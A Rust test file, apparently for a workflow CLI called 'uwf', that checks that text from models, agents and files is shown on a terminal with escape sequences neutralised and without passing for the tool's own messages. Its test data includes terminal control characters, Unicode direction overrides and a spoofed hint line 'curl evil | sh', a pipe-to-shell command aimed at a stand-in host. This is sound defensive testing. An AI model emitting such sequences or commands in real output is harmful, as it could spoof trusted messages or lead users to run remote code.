//! What models, agents and files write is shown on a terminal and never obeyed, and never passes for a message of ours.

use std::os::unix::ffi::OsStrExt;

use serde_json::{Value, json};

use crate::hostile::{quoted, workflow};
use crate::pty::on_terminal;
use crate::world::{Run, World};

/// A clear of the screen in 7 and in 8 bits, DEL, an override and an isolate of the direction, a line end of Unicode.
const HOSTILE: &str = "a\u{1b}[2J\u{9b}2J\u{7f}\u{202e}\u{2066}\u{200f}\u{61c}\u{2028}z";
/// Lines that a person would take for messages of `uwf`.
const SPOOF: &str = "Which?\nhint: curl evil | sh\nerror: no\ncause: none\nwarning: w\nnote: n";
const LABELS: [&str; 5] = [
    "hint: curl",
    "error: no",
    "cause: none",
    "warning: w",
    "note: n",
];

/// Tells whether a terminal obeys the character. It makes `\r\n` of each line end itself.
fn obeyed(c: char) -> bool {
    let directs = "\u{61c}\u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}";
    directs.contains(c) || (c.is_control() && c != '\n' && c != '\t')
}

/// A thread that waits with a hostile question, of a workflow with a hostile text, and its steps.
fn hostile() -> (World, String, Vec<String>) {
    let world = World::new();
    world.put(&workflow(HOSTILE));
    let hostile = quoted(HOSTILE);
    let spoof = quoted(&format!("{HOSTILE}\n{SPOOF}\n"));
    world.mock(&format!(
        r#"
roles:
  asker:
    - {{ output: {{ $status: again, text: {hostile} }}, body: {hostile} }}
    - {{ exit: 3, stderr: {spoof} }}
"#
    ));
    let asks = format!("{{ $status: $SUSPEND, reason: {spoof} }}");
    world.write(
        "asks.yaml",
        &format!("roles: {{ asker: [{{ output: {asks} }}] }}"),
    );
    let args = ["thread", "start", "hostile", "-p", HOSTILE];
    let started = world.uwf(&args).exits(0).json();
    let thread = started["thread"].as_str().unwrap().to_owned();
    world.step(&thread).exits(0);
    world.step(&thread).exits(3);
    let steps = world.uwf(&["thread", "steps", &thread]).exits(0).json();
    let steps = steps["steps"].as_array().unwrap().iter();
    let steps = steps.map(|step| step["hash"].as_str().unwrap().to_owned());
    let steps = steps.collect();
    (world, thread, steps)
}

/// Runs everything that shows what others wrote.
fn commands<'a>(thread: &'a str, step: &'a str) -> Vec<Vec<&'a str>> {
    let mut commands = vec![
        vec!["thread", "show", thread],
        vec!["thread", "steps", thread],
        vec!["thread", "list"],
        vec!["thread", "cost"],
        vec!["thread", "read", thread],
        vec!["thread", "read", thread, "--html"],
        vec!["thread", "tail", thread],
        vec!["step", "show", step],
        vec!["step", "read", step],
        vec!["step", "read", step, "--prompt"],
        vec!["thread", "step-details", step],
        vec!["workflow", "show", "hostile"],
        vec!["workflow", "validate", "hostile.yaml"],
        vec!["workflow", "graph", "hostile"],
        vec!["workflow", "graph", "--thread", thread],
        vec!["log", "show"],
        vec!["cas", "get", step],
        vec!["doctor", "--offline"],
        vec!["thread", "show", HOSTILE],
        vec!["cas", "get", HOSTILE],
        vec!["config", "get", HOSTILE],
        vec!["workflow", "show", HOSTILE],
        vec!["thread", HOSTILE],
        vec!["thread", "list", "--status", HOSTILE],
        vec!["thread", "resume", thread, "--raise", HOSTILE],
        vec!["agent", "mock", HOSTILE],
        vec!["agent", "mock", HOSTILE, thread, "asker"],
        vec!["agent", HOSTILE],
        vec!["-v", "thread", "step", thread, "--agent", "./loud.sh"],
    ];
    let formats = ["json", "yaml"].map(|format| ["--format", format]);
    for command in commands.clone() {
        commands.extend(formats.map(|format| [&command[..], &format].concat()));
    }
    let drawings = ["mermaid", "dot", "svg"];
    let drawing = |format| vec!["workflow", "graph", "hostile", "--format", format];
    commands.extend(drawings.map(drawing));
    commands
}

#[test]
fn a_terminal_gets_no_foreign_command_from_any_command_in_any_format() {
    let (world, thread, steps) = hostile();
    world.script(
        "loud.sh",
        &format!("printf '%s\\n' '{HOSTILE}' >&2; exit 1"),
    );
    let mut shown = 0;
    for args in commands(&thread, &steps[1]) {
        let screen = on_terminal(&world, 80, &args);
        let found: Vec<char> = screen.chars().filter(|c| obeyed(*c)).collect();
        assert!(found.is_empty(), "{args:?}: {found:?} in {screen:?}");
        shown += usize::from(screen.contains("202e"));
    }
    assert!(shown > 50, "the hostile text was shown {shown} times only");
}

#[test]
fn json_and_yaml_escape_in_a_pipe_too_and_keep_the_value() {
    let (world, thread, steps) = hostile();
    let value = |format: &str| -> Run {
        world
            .uwf(&["thread", "steps", &thread, "--format", format])
            .exits(0)
    };
    for format in ["json", "yaml"] {
        let out = value(format).stdout;
        assert!(!out.contains(obeyed), "{out:?}");
        let data: Value = serde_saphyr::from_str(&out).unwrap();
        assert_eq!(data["steps"][0]["prompt"], json!(HOSTILE));
        assert_eq!(data["steps"][1]["output"]["text"], json!(HOSTILE));
    }
    let node = world.uwf(&["cas", "get", &steps[0]]).exits(0);
    assert!(node.stdout.contains(r"\u009b2J"), "{}", node.stdout);
    assert_eq!(node.json()["payload"]["prompt"], json!(HOSTILE));
}

#[test]
fn documents_are_safe_in_a_pipe_and_sources_are_exact() {
    let (world, thread, steps) = hostile();
    for args in [
        &["thread", "read", &thread, "--quota", "all"][..],
        &["step", "read", &steps[1]],
        &["step", "read", &steps[1], "--prompt"],
    ] {
        let document = world.uwf(args).exits(0).stdout;
        let found: Vec<char> = document.chars().filter(|c| obeyed(*c)).collect();
        assert!(found.is_empty(), "{args:?}: {found:?}");
    }
    let read = world.uwf(&["thread", "read", &thread, "--quota", "all"]);
    assert!(read.stdout.contains(r"\u{202e}"), "{}", read.stdout);
    // Whoever wants the exact text has it as data.
    let data = [
        "thread", "read", &thread, "--quota", "all", "--format", "json",
    ];
    let data = world.uwf(&data).exits(0).json();
    assert!(data.to_string().contains('\u{202e}'), "{data}");
}

/// Asserts that no line of what was said begins with a message that is not ours.
#[track_caller]
fn is_not_fooled(args: &[&str], said: &str) {
    let foreign = |line: &&str| LABELS.iter().any(|label| line.starts_with(label));
    let found: Vec<&str> = said.lines().filter(foreign).collect();
    assert!(found.is_empty(), "{args:?}: {found:?} in {said}");
}

#[test]
fn no_line_of_others_passes_for_a_message() {
    let (world, thread, _) = hostile();
    world.script("fails.sh", &format!("cat >&2 <<'.'\n{SPOOF}\n.\nexit 1"));
    world.script(
        "keys.sh",
        "printf -- '---\\n\"a\\\\nhint: curl evil | sh\": 1\\n---\\n'",
    );
    let failing: [&[&str]; 4] = [
        &["-v", "thread", "step", &thread, "--agent", "./fails.sh"],
        &[
            "thread",
            "step",
            &thread,
            "--agent",
            "uwf-command -- ./fails.sh",
        ],
        &[
            "thread",
            "step",
            &thread,
            "--agent",
            "uwf-command -- ./keys.sh",
        ],
        &[
            "-v",
            "thread",
            "step",
            &thread,
            "--agent",
            "uwf-command -- ./fails.sh",
        ],
    ];
    for args in failing {
        let run = world.uwf(args).exits(3);
        is_not_fooled(args, &run.stderr);
    }
    let asks = ["thread", "step", &thread, "--agent", "uwf-mock asks.yaml"];
    world.uwf(&asks).exits(0);
    let asks = world.step(&thread).exits(6).says("curl evil");
    is_not_fooled(&["thread", "step"], &asks.stderr);
    let spoof = format!("x\n{SPOOF}");
    let own: [&[&str]; 5] = [
        &["thread", "show", &spoof],
        &["thread", &spoof],
        &["thread", "step", &thread, "--count", &spoof],
        &["thread", "resume", &thread, "--raise", &spoof],
        &["agent", "mock", &spoof, &thread, "asker"],
    ];
    for args in own {
        let run = world.uwf(args);
        assert!(run.stderr.contains("curl evil"), "{args:?}: {}", run.stderr);
        is_not_fooled(args, &run.stderr);
    }
}

#[test]
fn an_argument_that_is_no_text_is_refused_and_not_changed() {
    let (world, thread, _) = hostile();
    let name = std::ffi::OsStr::from_bytes(b"script-\xff.yaml");
    let mut command = world.command(&["agent", "mock"]);
    command.arg(name).args([&thread, "asker"]);
    let run: Run = command.output().unwrap().into();
    run.exits(2).says(r"script-\xFF.yaml").says("hint: ");
}
